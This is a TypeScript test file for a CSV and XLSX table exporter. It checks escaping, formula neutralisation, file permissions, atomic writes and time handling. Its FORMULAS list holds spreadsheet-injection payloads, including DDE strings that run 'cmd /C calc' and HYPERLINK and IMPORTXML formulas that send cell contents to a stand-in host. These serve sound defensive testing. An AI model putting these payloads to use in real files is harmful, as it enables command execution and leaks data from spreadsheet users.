import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import Papa from 'papaparse'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { tempFolder } from '../../test/support/temp-folder.ts'
import { secureRandom } from '../kernel/index.ts'
import { createWallClock, decimals, harmless, type Cell, type Table } from './cell.ts'
import { columnName } from './xlsx.ts'
import { writeTables, type TableFile } from './write-tables.ts'

/** What attackers put in front of a formula, as names and as answers. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  'x\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '  \t ＝1+1',
  '=HYPERLINK("https://example.test?x="&A1,"Error")',
  '=IMPORTXML(CONCAT("https://example.test/?v=",CONCATENATE(A2:E2)),"//a")',
  "-2+3+cmd|' /C calc'!D2",
  '"=1+1',
  '",=1+1,"',
  ';=1+1',
  '=DDE("cmd";"/C calc";"!A0")',
  '%0A=1+1',
]
const COMPUTED = /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/

let folder: ReturnType<typeof tempFolder>
beforeEach(() => (folder = tempFolder()))
afterEach(() => folder.remove())

const table = (rows: readonly (readonly Cell[])[], over: Partial<Table> = {}): Table => ({
  name: 'People',
  headings: ['Name', 'Phone'],
  pages: [rows],
  ...over,
})

async function write(format: 'csv' | 'xlsx', tables: readonly Table[], over: Partial<TableFile> = {}) {
  const target = join(folder.folder, `people.${format}`)
  const result = await writeTables({
    target,
    format,
    tables,
    timeZone: 'Asia/Taipei',
    at: 1_795_000_000_000,
    random: secureRandom,
    ...over,
  })
  return { result, target, bytes: existsSync(target) ? readFileSync(target) : Buffer.alloc(0) }
}

const csvRows = (bytes: Buffer): string[][] => Papa.parse<string[]>(bytes.toString('utf8').slice(1), { newline: '\r\n' }).data
const sheetOf = (bytes: Buffer, number = 1): string => strFromU8(unzipSync(bytes)[`xl/worksheets/sheet${number}.xml`] ?? new Uint8Array())

describe('a CSV file', () => {
  it.each(FORMULAS)('lets no spreadsheet compute %j', async (text) => {
    const { bytes } = await write('csv', [table([[text, 'x']])])
    const cell = csvRows(bytes)[1]?.[0] ?? ''
    expect(COMPUTED.test(cell)).toBe(false)
    expect(cell.replace(/^'/, '')).toBe(text)
  })

  it('begins with the mark of UTF-8, ends lines as RFC 4180 wants, and keeps numbers of phones as text', async () => {
    const { bytes, result } = await write('csv', [
      table([
        ['陳 "美玲", 小姐\n二樓', { phone: '+886912345678' }, 7, null, { micros: -1_234_560_000 }, { at: Date.UTC(2026, 10, 22, 16, 30) }],
      ]),
    ])
    expect(bytes.toString('utf8')).toBe(
      '\uFEFF"Name","Phone"\r\n"陳 ""美玲"", 小姐\n二樓","\'+886912345678",7,,-1234.56,"2026-11-23 00:30:00"\r\n',
    )
    expect(result).toEqual({ ok: true, value: { fileName: 'people.csv', sizeBytes: bytes.length, rows: 1 } })
  })

  it('puts several tables below each other, each under its name', async () => {
    const { bytes, result } = await write('csv', [table([['a', 1]]), table([['b', 2]], { name: '=Months' })])
    expect(csvRows(bytes)).toEqual([['People'], ['Name', 'Phone'], ['a', '1'], [''], ["'=Months"], ['Name', 'Phone'], ['b', '2'], ['']])
    expect(result).toMatchObject({ value: { rows: 2 } })
  })

  it('gives back any text as it was', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), async (texts) => {
        const { bytes } = await write('csv', [table([texts])])
        const cells = csvRows(bytes)[1] ?? []
        expect(cells.some((cell) => COMPUTED.test(cell))).toBe(false)
        expect(cells).toEqual(texts.map((text) => Buffer.from(harmless(text).replaceAll('\0', '')).toString()))
      }),
      { numRuns: 60 },
    )
  })
})

describe('a workbook', () => {
  it.each(FORMULAS)('holds %j as a typed text and no formula', async (text) => {
    const sheet = sheetOf((await write('xlsx', [table([[text, 'x']])])).bytes)
    expect(sheet).not.toContain('<f')
    expect(sheet).toMatch(/<c r="A2" s="1" t="inlineStr"><is><t xml:space="preserve">/)
  })

  it('has every part that a spreadsheet looks for, and cells of each kind', async () => {
    const { bytes, result } = await write('xlsx', [
      table([['a<b>&"c"\u0001\ud800', { phone: '+886912345678' }, 7, null, { micros: 1_500_000 }, { at: Date.UTC(2026, 10, 22, 16, 30) }]]),
      table([], { name: "People's / [list]: a very long name indeed" }),
    ])
    const files = unzipSync(bytes)
    expect(Object.keys(files).toSorted()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ])
    const sheet = sheetOf(bytes)
    expect(sheet).toContain('<t xml:space="preserve">a&lt;b&gt;&amp;"c"\ufffd</t>')
    expect(sheet).toContain('<c r="B2" s="1" t="inlineStr"><is><t xml:space="preserve">+886912345678</t></is></c><c r="C2"><v>7</v></c>')
    expect(sheet).toContain('<c r="E2" s="3"><v>1.50</v></c>')
    expect(Number(/<c r="F2" s="2"><v>([\d.]+)</.exec(sheet)?.[1])).toBeCloseTo(46_349 + 30 / 1_440, 9)
    expect(strFromU8(files['xl/workbook.xml'] ?? new Uint8Array())).toContain(`name="People's list a very long name" sheetId="2"`)
    expect(result).toMatchObject({ ok: true, value: { rows: 1, sizeBytes: bytes.length } })
  })

  it('names columns as spreadsheets do', () => {
    expect([0, 25, 26, 51, 52, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA'])
  })

  it('lets other work go on between pages', async () => {
    const order: string[] = []
    function* pages() {
      for (let page = 0; page < 3; page += 1) {
        order.push(`page ${page}`)
        setImmediate(() => order.push('other'))
        yield [[`row ${page}`]]
      }
    }
    await write('xlsx', [table([], { pages: pages() })])
    expect(order).toEqual(['page 0', 'other', 'page 1', 'other', 'page 2', 'other'])
  })
})

describe('the file itself', () => {
  it('is readable by its owner only, takes the place of an older one, and leaves nothing beside it', async () => {
    writeFileSync(join(folder.folder, 'people.csv'), 'older')
    const { target } = await write('csv', [table([['a', 'b']])])
    expect(readFileSync(target, 'utf8')).not.toContain('older')
    expect(process.platform === 'win32' ? 0o600 : statSync(target).mode & 0o777).toBe(0o600)
    expect(readdirSync(folder.folder)).toEqual(['people.csv'])
  })

  it.each(['csv', 'xlsx'] as const)('is not there at all when the rows of a %s end in a failure or a cancel', async (format) => {
    function* broken() {
      yield [['a', 'b']]
      throw new Error('the disk of the vault failed')
    }
    await expect(write(format, [table([], { pages: broken() })])).rejects.toThrow('the disk of the vault failed')
    const cancelled = await write(format, [table([['a', 'b']])], { signal: AbortSignal.abort() })
    expect(cancelled.result).toMatchObject({ ok: false, error: { code: 'call-cancelled' } })
    expect(readdirSync(folder.folder)).toEqual([])
  })

  it('says when the folder can not be written to', async () => {
    const { result } = await write('csv', [table([])], { target: join(folder.folder, 'absent', 'people.csv') })
    expect(result).toMatchObject({ ok: false, error: { code: 'file-write-failed' } })
  })

  it('says when the disk is full, and is not there', async () => {
    const full = Object.assign(new Error('no space'), { code: 'ENOSPC', syscall: 'write' })
    function* filling(): Generator<string[][]> {
      yield [['a', 'b']]
      throw full
    }
    const { result } = await write('csv', [table([], { pages: filling() })])
    expect(result).toMatchObject({ ok: false, error: { code: 'disk-full' } })
    expect(readdirSync(folder.folder)).toEqual([])
  })
})

describe('amounts and times', () => {
  it('keep every decimal', () => {
    expect([0, 1, -1, 73_200, 1_500_000, 100_000_000, -1_234_567_890].map(decimals)).toEqual([
      '0.00',
      '0.000001',
      '-0.000001',
      '0.0732',
      '1.50',
      '100.00',
      '-1234.56789',
    ])
  })

  it('follow the clocks of the zone through the change of summer time', () => {
    const wall = createWallClock('Europe/London')
    const shown = (at: number) => new Date(wall(at)).toISOString()
    expect(shown(Date.UTC(2026, 9, 25, 0, 59, 59))).toBe('2026-10-25T01:59:59.000Z')
    expect(shown(Date.UTC(2026, 9, 25, 1, 0, 1))).toBe('2026-10-25T01:00:01.000Z')
  })
})
